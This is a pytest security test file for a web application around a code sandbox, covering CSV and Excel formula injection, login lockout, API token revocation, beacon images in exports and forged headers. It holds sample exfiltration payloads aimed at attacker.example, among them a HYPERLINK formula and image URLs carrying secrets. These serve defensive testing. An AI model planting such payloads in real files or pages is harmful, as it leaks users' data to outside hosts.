"""Attacks on the web application around the sandbox (red-team review, issue 22).

Each test is the attack as an outsider or another user would make it, through the real
API on both stacks; it asserts what they would see: statuses, bodies and file bytes.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor, as_completed
from functools import cache
from pathlib import Path
from typing import Any

import httpx
import nbformat
import pytest
from markdown_it import MarkdownIt
from nbclient import NotebookClient
from openpyxl import load_workbook

from tests.api.test_login_rate_limit import (
    MAX_FAILURES,
    PASSWORD,
    assert_rate_limited,
    client_from,
    login,
    new_account,
    new_address,
)
from tests.api.test_preview_limits import workbook
from tests.api.test_query import ask, finished, of
from tests.conftest import ADMIN_EMAIL, ADMIN_PASSWORD, Api, stack_settings
from tests.support.llm import ScriptedLLM, code_reply, final_reply
from tests.support.server import LiveServer

# -- 1. Spreadsheet injection -------------------------------------------------------------

LEAK = '=HYPERLINK("http://attacker.example/?"&B2,"Click")'
HOSTILE_CELLS = ["=1+1", "@SUM(1,2)", "+1+1", "-1+1", "\tx=1", "\r=1", "plain", "-3.5"]
AMOUNTS = [-3.5, 2.0, -1.0, 0.5, 1000.0, -7.25, 0.0, 4.0]
ESCAPED_CELLS = ["'=1+1", "'@SUM(1,2)", "'+1+1", "'-1+1", "'\tx=1", "'\r=1", "plain", "-3.5"]


def new_session(api: Api, title: str = "Attack") -> dict[str, Any]:
    project = api.project()
    response = api.post(f"/projects/{project['id']}/sessions", json={"title": title})
    assert response.status_code == 201, response.text
    return dict(response.json())


def hostile_tables(alice: Api, llm: ScriptedLLM) -> dict[str, dict[str, Any]]:
    """A run whose table has a formula for a header and formulas for text cells, next to
    a genuinely numeric column; it is shown (table + CSV) and also written as a CSV."""
    code = (
        "import pandas as pd\n"
        f"df = pd.DataFrame({{{LEAK!r}: {HOSTILE_CELLS!r}, 'secret': ['s3cr3t'] * 8, "
        f"'amount': {AMOUNTS!r}}})\n"
        "display(df)\n"
        # Quoted, so the cell that begins with a carriage return stays one cell.
        "df.to_csv('written.csv', index=False, quoting=1)"
    )
    llm.script(code_reply(code), final_reply("'Done.'"))
    events = ask(alice, new_session(alice)["id"], "Make the table.")
    assert finished(events)["status"] == "succeeded", events
    return {a["artifact"]["name"]: a["artifact"] for a in of(events, "artifact")}


def download(api: Api, artifact: dict[str, Any], **params: str) -> bytes:
    response = api.get(artifact["url"].removeprefix("/api/v1"), params=params)
    assert response.status_code == 200, response.text
    return response.content


def formulas(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would run as formulas."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]


def number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_downloads_escape_formulas_in_headers_and_cells(alice: Api, llm: ScriptedLLM) -> None:
    artifacts = hostile_tables(alice, llm)
    table_csv = download(alice, artifacts["df.csv"]).decode()
    assert formulas(table_csv) == []
    quoted = LEAK.replace('"', '""')
    assert table_csv.startswith(f'"\'{quoted}",secret,amount\n')
    written = download(alice, artifacts["written.csv"]).decode()
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert rows[0] == ["'" + LEAK, "secret", "amount"]
    assert [r[0] for r in rows[1:]] == ESCAPED_CELLS
    assert all(r[1] == "s3cr3t" for r in rows[1:])
    # Numbers are left alone: a spreadsheet still reads them as numbers.
    assert [r[2] for r in rows[1:]] == [str(n) for n in AMOUNTS]


def test_a_reports_attached_csv_holds_no_formula(alice: Api, llm: ScriptedLLM) -> None:
    """The HTML report (and a shared link's page) attaches the files the code wrote: a CSV
    saved from there opens in a spreadsheet like any other download."""
    artifacts = hostile_tables(alice, llm)
    session_id = artifacts["written.csv"]["session_id"]
    report = alice.get(f"/sessions/{session_id}/export", params={"format": "html"})
    assert report.status_code == 200, report.text
    found = re.search(r'<a download="written\.csv" href="data:[^;"]+;base64,([^"]+)"', report.text)
    assert found, "the report attaches written.csv"
    rows = list(csv.reader(io.StringIO(base64.b64decode(found[1]).decode(), newline="")))
    assert rows[0] == ["'" + LEAK, "secret", "amount"]
    assert [r[0] for r in rows[1:]] == ESCAPED_CELLS
    assert [r[2] for r in rows[1:]] == [str(n) for n in AMOUNTS]


def test_excel_downloads_hold_no_formula_in_headers_or_cells(alice: Api, llm: ScriptedLLM) -> None:
    artifacts = hostile_tables(alice, llm)
    for name in ("df.json", "written.csv"):
        sheet = load_workbook(io.BytesIO(download(alice, artifacts[name], format="xlsx"))).active
        header = [sheet.cell(1, c) for c in (1, 2, 3)]
        assert [c.value for c in header] == ["'" + LEAK, "secret", "amount"], name
        assert all(c.data_type == "s" for c in header), name
        cells = [sheet.cell(r, 1) for r in range(2, 10)]
        values = [c.value for c in cells]
        # A carriage return does not survive a workbook's XML as such; the quote stays.
        assert values[5].startswith("'") and values[5].strip("'\r\n") == "=1", name
        assert values[:5] + values[6:] == ESCAPED_CELLS[:5] + ESCAPED_CELLS[6:], name
        assert all(c.data_type == "s" for c in cells), name
        assert [sheet.cell(r, 3).value for r in range(2, 10)] == AMOUNTS, name
        assert sheet.cell(2, 3).data_type == "n"


# -- 2. Login lockout ---------------------------------------------------------------------


def test_an_attacker_cannot_lock_the_admin_out_from_another_address(
    anon: Api, live: LiveServer
) -> None:
    with client_from(live, new_address()) as attacker:
        for guess in range(MAX_FAILURES):
            response = login(attacker, ADMIN_EMAIL, f"guess-{guess}")
            assert response.status_code == 401, (guess, response.text)
        # The attacker's own address is done guessing this account, right password or not.
        assert_rate_limited(login(attacker, ADMIN_EMAIL, "guess-next"))
        assert_rate_limited(login(attacker, ADMIN_EMAIL, ADMIN_PASSWORD))
    # The admin, elsewhere, logs in as ever.
    with client_from(live, new_address()) as owner:
        assert login(owner, ADMIN_EMAIL, ADMIN_PASSWORD).status_code == 200
    assert login(anon, ADMIN_EMAIL, ADMIN_PASSWORD).status_code == 200


def test_a_forged_forwarded_for_header_does_not_reset_the_count(
    admin: Api, live: LiveServer
) -> None:
    """A client that is not a trusted proxy cannot pose as many addresses."""
    email = new_account(admin)
    with client_from(live, new_address()) as attacker:
        for guess in range(MAX_FAILURES):
            forged = {"X-Forwarded-For": f"203.0.113.{guess + 1}"}
            response = attacker.post(
                "/auth/login", json={"email": email, "password": f"g-{guess}"}, headers=forged
            )
            assert response.status_code == 401, (guess, response.text)
        refused = attacker.post(
            "/auth/login",
            json={"email": email, "password": PASSWORD},
            headers={"X-Forwarded-For": "198.51.100.7"},
        )
        assert_rate_limited(refused)


# -- 3. Tokens ----------------------------------------------------------------------------


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def api_token(api: Api, name: str = "script") -> str:
    created = api.post("/auth/tokens", json={"name": name})
    assert created.status_code == 201, created.text
    return str(created.json()["token"])


def user_id(api: Api) -> str:
    return str(api.get("/auth/me").json()["id"])


def test_changing_a_password_revokes_the_users_api_tokens(alice: Api, anon: Api) -> None:
    stolen = api_token(alice)
    assert anon.get("/projects", headers=bearer(stolen)).status_code == 200
    changed = alice.post(
        "/auth/password",
        json={"current_password": "user-password-1", "new_password": "brand-new-pass-1"},
    )
    assert changed.status_code == 200, changed.text
    refused = anon.get("/projects", headers=bearer(stolen))
    assert refused.status_code == 401 and refused.json()["code"] == "invalid_token"
    fresh = changed.json()["access_token"]
    assert anon.get("/auth/tokens", headers=bearer(fresh)).json() == {"items": [], "total": 0}


def test_an_admin_password_reset_revokes_the_users_api_tokens(
    admin: Api, alice: Api, anon: Api
) -> None:
    stolen = api_token(alice)
    reset = admin.patch(f"/users/{user_id(alice)}", json={"password": "reset-by-admin-1"})
    assert reset.status_code == 200, reset.text
    refused = anon.get("/projects", headers=bearer(stolen))
    assert refused.status_code == 401 and refused.json()["code"] == "invalid_token"
    assert alice.get("/projects").status_code == 401  # her login ended too


def test_an_api_token_cannot_mint_api_tokens(alice: Api, anon: Api) -> None:
    stolen = api_token(alice, "ci")
    minted = anon.post("/auth/tokens", json={"name": "persistence"}, headers=bearer(stolen))
    assert minted.status_code == 403, minted.text
    assert minted.json()["code"] == "login_required"
    assert "token" not in minted.json()
    names = [t["name"] for t in alice.get("/auth/tokens").json()["items"]]
    assert names == ["ci"]
    # A login (a person who typed the password) still can.
    assert alice.post("/auth/tokens", json={"name": "laptop"}).status_code == 201


def test_an_admin_lists_and_revokes_a_users_tokens_without_disabling_them(
    admin: Api, alice: Api, bob: Api, anon: Api
) -> None:
    alice_id = user_id(alice)
    first, second = api_token(alice, "one"), api_token(alice, "two")
    listed = admin.get(f"/users/{alice_id}/tokens")
    assert listed.status_code == 200, listed.text
    assert sorted(t["name"] for t in listed.json()["items"]) == ["one", "two"]
    assert listed.json()["total"] == 2
    assert not any("token" in t for t in listed.json()["items"])  # never the secret
    one = next(t for t in listed.json()["items"] if t["name"] == "one")

    # Nobody else may look or revoke: not the user next door, not the user herself here.
    for someone in (bob, alice):
        refused = someone.get(f"/users/{alice_id}/tokens")
        assert refused.status_code == 403 and refused.json()["code"] == "admin_only"
        refused = someone.delete(f"/users/{alice_id}/tokens/{one['id']}")
        assert refused.status_code == 403 and refused.json()["code"] == "admin_only"
    assert anon.get("/projects", headers=bearer(first)).status_code == 200

    assert admin.delete(f"/users/{alice_id}/tokens/{one['id']}").status_code == 204
    assert anon.get("/projects", headers=bearer(first)).status_code == 401
    assert anon.get("/projects", headers=bearer(second)).status_code == 200
    # A token is found only under its own user.
    bob_id = user_id(bob)
    elsewhere = admin.delete(f"/users/{bob_id}/tokens/{one['id']}")
    assert elsewhere.status_code == 404

    assert admin.delete(f"/users/{alice_id}/tokens").status_code == 204
    assert anon.get("/projects", headers=bearer(second)).status_code == 401
    assert admin.get(f"/users/{alice_id}/tokens").json() == {"items": [], "total": 0}
    # Her account and her login stay as they were.
    assert alice.get("/projects").status_code == 200
    unknown = admin.get("/users/00000000-0000-0000-0000-000000000000/tokens")
    assert unknown.status_code == 404 and unknown.json()["code"] == "user_not_found"


# -- 4. Exports ---------------------------------------------------------------------------

BEACON = "http://attacker.example/beacon"
BEACON_ANSWER = (
    f"Revenue is up. ![chart]({BEACON}/md.png?d=secret) "
    f'<img src="{BEACON}/html.png"> <IMG SRC={BEACON}/upper.png> '
    f"![ref][logo]\n\n[logo]: {BEACON}/ref.png\n\n"
    f"| a |\n|---|\n| ![cell]({BEACON}/cell.png) |"
)


def remote_images(markdown: str) -> list[str]:
    """The remote images a Markdown viewer that allows raw HTML (as Jupyter does) would
    fetch on opening."""
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    return re.findall(r"<img[^>]*src=[\"']?(https?://[^\"' >]+)", html, flags=re.IGNORECASE)


def beacon_session(alice: Api, llm: ScriptedLLM) -> dict[str, Any]:
    llm.script(
        code_reply(
            "import pandas as pd\n"
            f"display(pd.DataFrame({{'link': ['![t]({BEACON}/t.png)', '<img src={BEACON}/t>']}}))"
        ),
        final_reply(repr(BEACON_ANSWER)),
    )
    session = new_session(alice, "Beacon")
    assert finished(ask(alice, session["id"], "How is revenue?"))["status"] == "succeeded"
    return session


def export_of(api: Api, session: dict[str, Any], fmt: str = "ipynb", **headers: str) -> str:
    response = api.get(f"/sessions/{session['id']}/export", params={"format": fmt}, headers=headers)
    assert response.status_code == 200, response.text
    return response.text


def test_exports_fetch_no_remote_image_when_opened(alice: Api, llm: ScriptedLLM) -> None:
    session = beacon_session(alice, llm)
    assert remote_images(BEACON_ANSWER)  # the attack works on a plain renderer

    markdown = export_of(alice, session, "md")
    assert remote_images(markdown) == []
    assert "Revenue is up." in markdown and f"{BEACON}/md.png" in markdown  # shown as text

    notebook = nbformat.reads(export_of(alice, session, "ipynb"), as_version=4)
    cells = [c.source for c in notebook.cells if c.cell_type == "markdown"]
    assert any("Revenue is up." in c for c in cells)
    assert [remote_images(c) for c in cells if remote_images(c)] == []
    shown = [
        str(o.get("data", {}).get(kind, ""))
        for c in notebook.cells
        if c.cell_type == "code"
        for o in c.outputs
        for kind in ("text/html", "text/markdown")
    ]
    assert not any(re.search(r"<img[^>]*https?://", s, flags=re.IGNORECASE) for s in shown)


BEACON_FIGURE = (
    "import plotly.graph_objects as go\n"
    "fig = go.Figure(go.Scatter(x=[1, 2], y=[3, 4], text=['https://example.org/a-label']))\n"
    "fig.update_layout(\n"
    f"    images=[dict(source='{BEACON}/layout.png?d=secret', xref='paper', yref='paper',\n"
    "                 x=0, y=1, sizex=1, sizey=1),\n"
    "            dict(source='data:image/png;base64,iVBORw0KGgo=', x=0, y=0)],\n"
    f"    map=dict(style='{BEACON}/style.json',\n"
    f"                layers=[dict(sourcetype='raster', source=['{BEACON}/tiles/{{z}}.png'])]),\n"
    ")\n"
    "fig.show()"
)


def test_a_notebooks_charts_fetch_nothing_remote_when_opened(alice: Api, llm: ScriptedLLM) -> None:
    """JupyterLab's and VS Code's plotly renderers draw a notebook's figures as it opens (the
    plotly mime type is marked safe), and plotly fetches a layout image's `source` and a map's
    style and tiles from wherever they point: the model's figure would carry data out."""
    llm.script(code_reply(BEACON_FIGURE), final_reply("'Here is the chart.'"))
    session = new_session(alice, "Figure beacon")
    assert finished(ask(alice, session["id"], "Chart it."))["status"] == "succeeded"

    notebook = nbformat.reads(export_of(alice, session, "ipynb"), as_version=4)
    figures = [
        o["data"]["application/vnd.plotly.v1+json"]
        for c in notebook.cells
        if c.cell_type == "code"
        for o in c.outputs
        if "application/vnd.plotly.v1+json" in o.get("data", {})
    ]
    assert len(figures) == 1
    shown = str(figures[0])
    assert "attacker.example" not in shown
    # What fetches nothing stays: the inline image, and text that merely names a URL.
    assert "data:image/png;base64,iVBORw0KGgo=" in shown
    assert "https://example.org/a-label" in shown
    assert figures[0]["data"][0]["y"] == [3, 4]


def test_the_notebook_never_points_its_token_at_a_forged_host(alice: Api) -> None:
    session = new_session(alice)
    for forged in ("attacker.example", "attacker.example:8000"):
        source = export_of(alice, session, "ipynb", Host=forged)
        assert "attacker.example" not in source
        setup = nbformat.reads(source, as_version=4).cells[1].source
        settings = alice.live.settings
        expected = f"http://{settings.HOST}:{settings.PORT}"
        assert f'os.environ.get("WORKBENCH_URL", {expected!r})' in setup


def test_the_notebook_uses_the_public_url_setting(tmp_path: Path, llm: ScriptedLLM) -> None:
    settings = stack_settings(
        "embedded", tmp_path, LLM_API_BASE=llm.api_base, PUBLIC_URL="https://wb.example.com/"
    )
    live = LiveServer(settings).start()
    try:
        with Api(live).as_user(ADMIN_EMAIL, ADMIN_PASSWORD) as admin:
            source = export_of(admin, new_session(admin), "ipynb", Host="attacker.example")
    finally:
        live.stop()
    assert "attacker.example" not in source
    setup = nbformat.reads(source, as_version=4).cells[1].source
    assert "os.environ.get(\"WORKBENCH_URL\", 'https://wb.example.com')" in setup


def test_the_notebook_says_it_runs_llm_code_unsandboxed_and_waits_for_consent(
    alice: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    notebook = nbformat.reads(export_of(alice, new_session(alice)), as_version=4)
    first = notebook.cells[0]
    assert first.cell_type == "markdown"
    warning = first.source.lower()
    assert "outside" in warning and "sandbox" in warning and "your" in warning
    assert "WORKBENCH_RUN_UNSANDBOXED" in first.source
    setup = nbformat.v4.new_notebook(cells=notebook.cells[:2])
    monkeypatch.delenv("WORKBENCH_RUN_UNSANDBOXED", raising=False)
    with pytest.raises(Exception, match="WORKBENCH_RUN_UNSANDBOXED"):
        NotebookClient(setup, resources={"metadata": {"path": str(tmp_path)}}).execute()
    monkeypatch.setenv("WORKBENCH_RUN_UNSANDBOXED", "1")
    setup = nbformat.v4.new_notebook(cells=notebook.cells[:2])
    NotebookClient(setup, resources={"metadata": {"path": str(tmp_path)}}).execute()


# -- 5. Preview fair share ----------------------------------------------------------------


@cache
def heavy_workbook() -> bytes:
    """A workbook of 80,000 rows: accepted, and each profile of it takes a preview slot
    for a while (about a second here), long beside a small CSV's check."""

    def sheet() -> Iterator[bytes]:
        yield (
            b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns='
            b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        )
        for start in range(1, 80_001, 1000):
            yield "".join(
                f'<row r="{r}"><c r="A{r}"><v>{r % 7}</v></c>'
                f'<c r="B{r}" t="inlineStr"><is><t>x{r}</t></is></c></row>'
                for r in range(start, start + 1000)
            ).encode()
        yield b"</sheetData></worksheet>"

    return workbook(sheet())


def test_one_users_heavy_previews_do_not_hold_up_another_users_upload(
    alice: Api, bob: Api, live: LiveServer
) -> None:
    heavy = bob.upload(bob.project()["id"], "heavy.xlsx", heavy_workbook())
    assert heavy.status_code == 201 and heavy.json()["check"] == "ok", heavy.text
    profile = f"/files/{heavy.json()['id']}/profile"
    bob_token = bob.headers["Authorization"]
    finished_ok: list[int] = []
    lock = threading.Lock()

    def bob_asks(_: int) -> httpx.Response:
        # However loaded the machine, the waiting is not what is asserted.
        with httpx.Client(base_url=f"{live.url}/api/v1", timeout=600) as client:
            response = client.get(profile, headers={"Authorization": bob_token})
        with lock:
            if response.status_code != 503:  # it held a slot and finished
                finished_ok.append(1)
        return response

    project = alice.project()
    with ThreadPoolExecutor(max_workers=11) as pool:
        flood = [pool.submit(bob_asks, n) for n in range(10)]
        # Bob's queue is full once the server refuses him: the rest of his are in.
        answers = (f.result() for f in as_completed(flood))
        refused = next((r for r in answers if r.status_code == 503), None)
        assert refused is not None, "the server let one user queue ten heavy previews"
        assert refused.json()["code"] == "server_busy"
        assert 1 <= int(refused.headers["retry-after"]) <= 60
        # Now Alice uploads: her file is checked at the next free slot, before Bob's waiting
        # profiles, so at most the two that were running when she came finish before her.
        upload = pool.submit(alice.upload, project["id"], "small.csv", b"region,revenue\nN,1\n")
        uploaded = upload.result()
        with lock:
            bob_done_before = len(finished_ok)
        outcomes = [f.result().status_code for f in flood]
    assert uploaded.status_code == 201 and uploaded.json()["check"] == "ok", uploaded.text
    assert bob_done_before <= 2, (bob_done_before, outcomes)
    # (A profile slower than the preview time limit on a very loaded machine answers 422.)
    assert outcomes.count(200) + outcomes.count(422) >= 3, outcomes
    assert set(outcomes) <= {200, 422, 503}, outcomes
    # Bob's refused requests were not lost for good: asked again, the profile answers.
    assert bob.get(profile).status_code in (200, 422)
